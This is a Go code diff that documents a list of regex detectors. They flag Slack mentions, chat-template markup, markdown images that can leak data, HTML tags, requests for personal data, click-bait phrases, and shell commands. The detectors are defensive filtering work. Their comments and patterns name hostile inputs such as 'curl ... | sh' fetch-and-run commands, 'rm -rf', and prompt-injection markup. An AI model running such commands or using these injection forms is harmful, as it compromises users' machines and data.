@@ -17,19 +17,27 @@ var marks = []struct {
 	what string
 	find func(string) string // the first place, or ""
 }{
+	// <!channel>, <@U024BE7LH>, and the same after one round of escaping.
 	{"a Slack mention", regexp.MustCompile(`(?i)<!(?:channel|here|everyone|subteam)[^>]*>?|<[@#][A-Z0-9]{3,}[^>]*>?|&lt;[!@#]`).FindString},
+	// "@here", which Slack makes a mention of where link_names is set.
 	{"a call to the whole channel", regexp.MustCompile(`(?i)(?:^|[\s(*_"“])@(?:channel|here|everyone)\b`).FindString},
+	// <|im_start|>, </system>, [INST], <<SYS>>.
 	{"chat markup", regexp.MustCompile(`(?i)<\|[a-z_]+\|>|</?(?:system|assistant|user|im_start|im_end)>|\[/?INST\]|<</?SYS>>`).FindString},
+	// An image is loaded by whoever reads it, and its address can carry out
+	// data.
 	{"an image", regexp.MustCompile(`!\[[^\]]*\]\([^)]*\)`).FindString},
 	{"HTML", regexp.MustCompile(`(?i)<(?:script|img|iframe|a|style|svg|object|embed|form|link|meta)[\s/>][^>]*>?`).FindString},
 	{"a block of code", regexp.MustCompile("```").FindString},
 	{"hidden direction marks", firstDeceptive},
+	// "Please confirm your account number", "What is your real name".
 	{"a request for personal data", regexp.MustCompile(`(?i)\b(?:please )?` +
 		`(?:enter|provide|send|share|give|tell|confirm|reply with|verify|submit)\b[^.!?]{0,25}\byour\b[^.!?]{0,25}` +
 		`\b(?:names?|passwords?|e-?mail|credentials?|credit cards?|card numbers?|` +
 		`social security|accounts?|phone|address|keys?|tokens?)\b|` +
 		`\bwhat(?:'s| is) your (?:real )?name\b`).FindString},
+	// "Click here", "Claim your prize".
 	{"a call to click", regexp.MustCompile(`(?i)\bclick (?:here|this link|on (?:this|the) link|the link)\b|\bclaim your\b`).FindString},
+	// "Run this command", "curl https://x.example/i | sh".
 	{"a call to act on the reader's machine", regexp.MustCompile(`(?i)\brun (?:the following|this) (?:command|script)\b|` +
 		`\b(?:curl|wget)\b[^|\n]{0,120}\|\s*(?:ba)?sh\b|\brm -rf\b`).FindString},
 }
